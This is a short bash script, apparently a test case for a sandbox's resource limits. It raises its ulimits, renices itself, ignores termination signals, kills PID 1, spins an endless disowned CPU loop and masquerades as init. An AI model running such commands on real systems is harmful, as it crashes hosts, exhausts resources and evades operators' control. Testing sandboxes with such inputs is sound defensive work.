#!/bin/bash
# Attacks: the run's limits and its end: raises what can be raised, kills the first process, and stays.
ulimit -u unlimited 2>/dev/null
ulimit -t unlimited 2>/dev/null
renice -n -20 $$ >/dev/null 2>&1 && echo BREACH
for signal in TERM INT HUP XCPU PIPE CHLD; do trap '' "$signal"; done
kill -9 1 2>/dev/null
(while :; do :; done) & disown -a
coproc sleep 1000
exec 3<&0 4>&1
exec -a init sleep 1000
